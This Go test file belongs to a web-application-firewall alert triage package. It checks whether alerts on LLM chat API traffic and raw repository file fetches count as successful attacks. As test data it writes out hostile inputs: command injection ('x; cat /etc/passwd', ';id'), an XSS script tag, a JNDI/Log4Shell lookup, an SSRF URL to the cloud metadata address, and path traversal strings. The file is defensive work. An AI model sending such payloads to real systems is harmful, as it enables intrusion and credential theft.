package triage

import (
	"testing"

	"github.com/modsecurity-for-anylog/msa/engine"
	"github.com/modsecurity-for-anylog/msa/mapping"
)

// What a language model or a repository tells of files and commands is no file of the server that tells it.
func TestTold(t *testing.T) {
	const (
		asked  = `{"model":"m","messages":[{"role":"user","content":"What is in /etc/passwd, and what prints id?"}]}`
		answer = `{"choices":[{"message":{"role":"assistant","content":"root:x:0:0:root:/root:/bin/bash, and uid=0(root) gid=0(root)"}}]}`
		passwd = "root:x:0:0:root:/root:/bin/bash\n"
	)
	for name, c := range map[string]struct {
		method, uri, request, kind, body string
		want                             bool
	}{
		"model":                      {"POST", "/v1/chat/completions", asked, "application/json", answer, true},
		"model, in pieces":           {"POST", "/api/chat", asked, "text/event-stream", `data: {"message":{"role":"assistant","content":"uid=0(root)"},"done":false}`, true},
		"model, Google's":            {"POST", "/v1beta/models/m:generateContent?key=7", `{"contents":[{"parts":[{"text":"id"}]}]}`, "application/json", `{"candidates":[{"content":{"role":"model"}}]}`, true},
		"messages of others":         {"POST", "/api/messages", `{"to":"ann","messages":["id"]}`, "application/json", `{"out":"uid=0(root) gid=0(root)"}`, false},
		"a form at the path":         {"POST", "/v1/chat/completions", "cmd=id", "application/json", answer, false},
		"a page at the path":         {"POST", "/v1/chat/completions", asked, "text/html", answer, false},
		"model, elsewhere":           {"POST", "/run", asked, "application/json", answer, false},
		"repository, GitLab":         {"GET", "/acme/infra/-/raw/main/files/passwd.j2", "", "text/plain", passwd, true},
		"repository, GitLab's API":   {"GET", "/api/v4/projects/7/repository/files/etc%2Fpasswd/raw?ref=main", "", "text/plain", passwd, true},
		"repository, Gitea":          {"GET", "/acme/infra/raw/branch/main/etc/passwd", "", "text/plain", passwd, true},
		"repository, GitHub":         {"GET", "/acme/infra/raw/refs/heads/main/etc/passwd", "", "text/plain", passwd, true},
		"repository, above its root": {"GET", "/acme/infra/-/raw/main/..%2f..%2fetc/passwd", "", "text/plain", passwd, false},
		"folder that is called so":   {"GET", "/shop/files/raw/etc/passwd", "", "text/plain", passwd, false},
		"source of a site":           {"GET", "/a/src/etc/passwd", "", "text/plain", passwd, false},
		"repository, a file sent":    {"POST", "/acme/infra/-/raw/main/files/passwd.j2", "", "text/plain", passwd, false},
	} {
		t.Run(name, func(t *testing.T) {
			tx := &mapping.Transaction{Method: c.method, URI: c.uri, Status: 200, ResponseHeaders: []mapping.Header{{Name: "Content-Type", Value: c.kind}}}
			tx.RequestBody.Text, tx.ResponseBody.Text = c.request, c.body
			v := &engine.Verdict{Matches: []engine.Match{
				{RuleID: 932160, Phase: 2, Severity: 2, Tags: []string{"attack-rce"}, Places: []engine.Place{{Variable: "ARGS:json.messages.0.content", Value: "id"}}},
				{RuleID: 9703100, Phase: 4, Severity: 2, Tags: []string{"attack-lfi", "succeeded"}, Variable: "RESPONSE_BODY", Value: c.body},
			}}
			if got := isTold(tx); got != c.want {
				t.Errorf("%v", got)
			}
			if isProof := Examine(tx, v).Proves(); isProof == c.want {
				t.Errorf("proves: %v", isProof)
			}
			if got, _ := OutcomeOf(tx, v); (got == Success) == c.want {
				t.Errorf("%s", got)
			}
			v.Matches = v.Matches[1:]
			if got := AlarmsByRule(tx, v); got == c.want {
				t.Errorf("alone: %v", got)
			}
			if a := Appraise(tx, v); (a.Confidence == 0) != c.want {
				t.Errorf("alone: %+v", a)
			}
		})
	}
}

// What a model is asked is run by nobody; what its interface looks up or fetches, is.
func TestPrompt(t *testing.T) {
	for name, c := range map[string]struct {
		uri, variable, value string
		want                 bool
	}{
		"prompt":             {"/v1/chat/completions", "ARGS:json.messages.0.content", "x; cat /etc/passwd", true},
		"prompt in parts":    {"/v1/messages", "ARGS:json.messages.0.content.0.text", "<script>alert(1)</script>", true},
		"tool":               {"/v1/chat/completions", "ARGS:json.tools.0.function.description", "runs `id`", true},
		"address":            {"/v1/chat/completions", "ARGS:json.messages.0.content.1.image_url.url", "http://169.254.169.254/latest/", false},
		"lookup":             {"/v1/chat/completions", "ARGS:json.messages.0.content", "${jndi:ldap://198.51.100.7/a}", false},
		"model":              {"/v1/chat/completions", "ARGS:json.model", "../../etc/passwd", false},
		"prompt, in a query": {"/v1/chat/completions?messages=;id", "ARGS_GET:messages", ";id", false},
		"another interface":  {"/run", "ARGS:json.messages.0.content", "x; cat /etc/passwd", false},
	} {
		t.Run(name, func(t *testing.T) {
			tx := &mapping.Transaction{Method: "POST", URI: c.uri, Status: 200, ResponseHeaders: []mapping.Header{{Name: "Content-Type", Value: "application/json"}}}
			tx.RequestBody.Text = `{"messages":[]}`
			tx.ResponseBody.Text = `{"choices":[{"message":{"role":"assistant","content":"No."}}]}`
			m := &engine.Match{RuleID: 932160, Tags: []string{"attack-rce"}}
			if got := isOrdinary(tx, m, c.variable, c.value); got != c.want {
				t.Errorf("%v", got)
			}
			tx.ResponseBody.Text = `{"ok":true}`
			if isOrdinary(tx, m, c.variable, c.value) {
				t.Error("no model has answered")
			}
		})
	}
}
